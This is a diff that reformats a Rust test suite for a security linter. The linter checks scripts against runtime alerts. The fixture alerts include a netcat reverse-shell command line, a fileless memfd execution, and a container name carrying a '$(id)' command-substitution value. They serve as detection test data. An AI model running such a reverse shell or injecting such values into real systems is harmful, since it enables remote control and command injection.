@@ -311,11 +311,21 @@ fn cases() -> Vec<Case> {
 /// Alerts of our own making: what they say is what the cases go by.
 fn alert(name: &str) -> Alert {
     let json = match name {
-        "nc" => r#"{"evt.type":"execve","proc.name":"nc","proc.cmdline":"nc -e /bin/sh example.com 22","proc.exepath":"/usr/bin/nc","container.id":"0123456789ab","container.name":"modest_hopper"}"#,
-        "memfd" => r#"{"evt.type":"execve","proc.name":"3","proc.pid":4242,"evt.arg.flags":"EXE_WRITABLE|EXE_FROM_MEMFD","proc.exepath":"memfd:x","container.id":"0123456789ab","container.name":"modest_hopper","container.start_ts":1728144488131238330,"evt.time":1728144488850053630}"#,
-        "shell" => r#"{"evt.type":"execve","proc.name":"sh","proc.cmdline":"sh -c ip link del calico_tmp_A || true","container.id":"0123456789ab"}"#,
-        "pod" => r#"{"evt.type":"connect","proc.name":"curl","proc.pid":4242,"fd.rip":"198.51.100.7","fd.rport":443,"container.id":"0123456789ab","container.name":"web$(id)","k8s.ns.name":"shop","k8s.pod.name":"web-0"}"#,
-        "platform" => r#"{"evt.type":"execve","proc.name":"sh","container.id":"0123456789ab","k8s.ns.name":"kube-system","k8s.pod.name":"cni-1"}"#,
+        "nc" => {
+            r#"{"evt.type":"execve","proc.name":"nc","proc.cmdline":"nc -e /bin/sh example.com 22","proc.exepath":"/usr/bin/nc","container.id":"0123456789ab","container.name":"modest_hopper"}"#
+        }
+        "memfd" => {
+            r#"{"evt.type":"execve","proc.name":"3","proc.pid":4242,"evt.arg.flags":"EXE_WRITABLE|EXE_FROM_MEMFD","proc.exepath":"memfd:x","container.id":"0123456789ab","container.name":"modest_hopper","container.start_ts":1728144488131238330,"evt.time":1728144488850053630}"#
+        }
+        "shell" => {
+            r#"{"evt.type":"execve","proc.name":"sh","proc.cmdline":"sh -c ip link del calico_tmp_A || true","container.id":"0123456789ab"}"#
+        }
+        "pod" => {
+            r#"{"evt.type":"connect","proc.name":"curl","proc.pid":4242,"fd.rip":"198.51.100.7","fd.rport":443,"container.id":"0123456789ab","container.name":"web$(id)","k8s.ns.name":"shop","k8s.pod.name":"web-0"}"#
+        }
+        "platform" => {
+            r#"{"evt.type":"execve","proc.name":"sh","container.id":"0123456789ab","k8s.ns.name":"kube-system","k8s.pod.name":"cni-1"}"#
+        }
         "server" => r#"{"evt.type":"accept4","proc.name":"nginx","container.id":"0123456789ab"}"#,
         other => panic!("no alert {other}"),
     };
@@ -323,7 +333,9 @@ fn alert(name: &str) -> Alert {
     let mut alert = Alert::default();
     for (key, value) in map {
         let value = match value {
-            serde_json::Value::Number(number) => crate::model::Value::Number(number.to_string().into()),
+            serde_json::Value::Number(number) => {
+                crate::model::Value::Number(number.to_string().into())
+            }
             other => crate::model::Value::String(other.as_str().unwrap().into()),
         };
         alert.fields.set(&key, value);
@@ -334,7 +346,8 @@ fn alert(name: &str) -> Alert {
 #[test]
 fn every_rule_speaks_where_it_should_and_is_silent_where_not() {
     let mut wrong = Vec::new();
-    let (mut bad, mut good) = (std::collections::BTreeMap::new(), std::collections::BTreeMap::new());
+    let (mut bad, mut good) =
+        (std::collections::BTreeMap::new(), std::collections::BTreeMap::new());
     for Case { id, is_bad, kind, alert, text } in cases() {
         let is = match kind.as_str() {
             "sh" | "script" => Kind::Shell,
@@ -342,7 +355,11 @@ fn every_rule_speaks_where_it_should_and_is_silent_where_not() {
             _ => Kind::Snippet,
         };
         let fence = if kind == "conf" { "```conf\n" } else { "" };
-        let (is, text) = if fence.is_empty() { (is, text) } else { (Kind::Markdown, format!("{fence}{text}\n```\n")) };
+        let (is, text) = if fence.is_empty() {
+            (is, text)
+        } else {
+            (Kind::Markdown, format!("{fence}{text}\n```\n"))
+        };
         let found = lint(&text, is, alert.as_ref());
         let said = found.iter().find(|finding| finding.id == id);
         let ids: Vec<_> = found.iter().map(|finding| finding.id).collect();
@@ -358,7 +375,12 @@ fn every_rule_speaks_where_it_should_and_is_silent_where_not() {
         } else {
             *good.entry(id.clone()).or_insert(0) += 1;
             let strict = is == Kind::Shell;
-            if said.is_some() || strict && found.iter().any(|finding| finding.severity > Severity::Note) && id != "S02" && id != "E06" {
+            if said.is_some()
+                || strict
+                    && found.iter().any(|finding| finding.severity > Severity::Note)
+                    && id != "S02"
+                    && id != "E06"
+            {
                 wrong.push(format!("{id} should be silent, {ids:?}: {text}"));
             }
         }
